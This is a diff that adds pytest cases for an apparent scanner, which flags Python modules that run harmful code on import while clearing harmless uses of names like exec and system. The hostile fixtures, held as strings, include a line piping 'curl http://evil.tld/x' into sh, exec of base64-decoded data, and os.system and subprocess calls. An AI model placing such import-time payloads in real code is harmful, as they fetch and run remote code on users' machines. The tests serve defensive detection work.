@@ -76,3 +76,32 @@ def test_module_whose_functions_run_commands_is_only_unverified() -> None:
 @pytest.mark.parametrize("data", [b"", b"c", bytes(40), b"ab\r\n" + bytes(12) + b"c123"])
 def test_other_bytes_are_no_module(data: bytes) -> None:
     assert compiled(data) is None
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "from platform import system\nif system() == 'Windows':\n    x = 'dir'\n",
+        "class A:\n    def eval(self): pass\n    name = 'a (b)'\n",
+        "import os, builtins\nexec = builtins.exec\n",
+    ],
+)
+def test_names_alone_show_no_harm(source: str) -> None:
+    found = compiled(module(source))
+    assert found is not None
+    assert found[1] is None
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import base64\nexec(base64.b64decode('eA=='))\n",
+        "__import__('os').system('curl http://evil.tld/x | sh')\n",
+        "import subprocess\nsubprocess.Popen('whoami')\n",
+        "exec(\"import os; os.system('id')\")\n",
+    ],
+)
+def test_module_that_harms_when_imported(source: str) -> None:
+    found = compiled(module(source))
+    assert found is not None
+    assert found[1] is not None
